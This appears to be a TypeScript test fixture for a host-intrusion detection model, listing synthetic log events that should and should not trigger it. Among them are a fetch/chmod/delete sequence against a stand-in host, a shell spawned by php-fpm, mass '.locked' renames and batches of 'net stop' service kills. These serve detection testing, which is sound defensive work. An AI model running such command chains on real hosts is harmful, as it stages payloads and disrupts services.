// What must and must not make the host evidence model speak; declared in host-evidence.ts, walked by models.test.ts.
import type { Sample } from '../define-model.js'

function event(second: number, fields: object): string {
  return JSON.stringify({
    '@timestamp': new Date(Date.UTC(2026, 10, 24, 8) + second * 1000).toISOString(),
    host: { name: 'web1' },
    ...fields,
  })
}

function started(second: number, commandLine: string, parent: object = { pid: 4242 }): string {
  const executable = commandLine.split(' ')[0]!
  return event(second, {
    event: { category: ['process'], type: ['start'], action: 'executed' },
    process: {
      executable: executable.startsWith('/') ? executable : `/usr/bin/${executable}`,
      command_line: commandLine,
      pid: 100 + second,
      parent,
    },
  })
}

function renamed(count: number, suffix: string): string[] {
  return Array.from({ length: count }, (_, n) =>
    event(n, { event: { category: ['file'], type: ['change'], action: 'rename' }, file: { path: `/srv/share/report${n}.docx${suffix}` } }),
  )
}

const stops = (count: number): string[] =>
  Array.from({ length: count }, (_, n) => started(n, `net stop "Service ${n}" /y`, { pid: 10_000 + n }))

export const hostEvidenceSamples: { readonly fires: readonly Sample[]; readonly silent: readonly Sample[] } = {
  fires: [
    {
      what: 'fetched, made executable, removed',
      lines: [started(0, 'curl -o /tmp/a http://x.example/a'), started(3, 'chmod +x /tmp/a'), started(9, 'rm -f /tmp/a')],
    },
    { what: 'a shell of the web server', lines: [started(0, 'sh -c id', { pid: 7, name: 'php-fpm' })] },
    { what: '30 documents of a new kind', lines: renamed(30, '.locked') },
    { what: '5 services stopped', lines: stops(5) },
  ],
  silent: [
    { what: 'a download', lines: [started(0, 'curl -o /tmp/a http://x.example/a'), started(3, 'curl -o /tmp/b http://x.example/b')] },
    {
      what: 'the same steps of different parents',
      lines: [
        started(0, 'curl http://x.example/a', { pid: 1 }),
        started(3, 'chmod +x /tmp/a', { pid: 2 }),
        started(9, 'rm -f /tmp/a', { pid: 3 }),
      ],
    },
    { what: 'a shell of a person', lines: [started(0, 'sh -c id', { pid: 7, name: 'sshd' })] },
    { what: '29 documents of a new kind', lines: renamed(29, '.locked') },
    { what: '40 copies', lines: renamed(40, '.bak') },
    { what: '4 services stopped', lines: stops(4) },
  ],
}
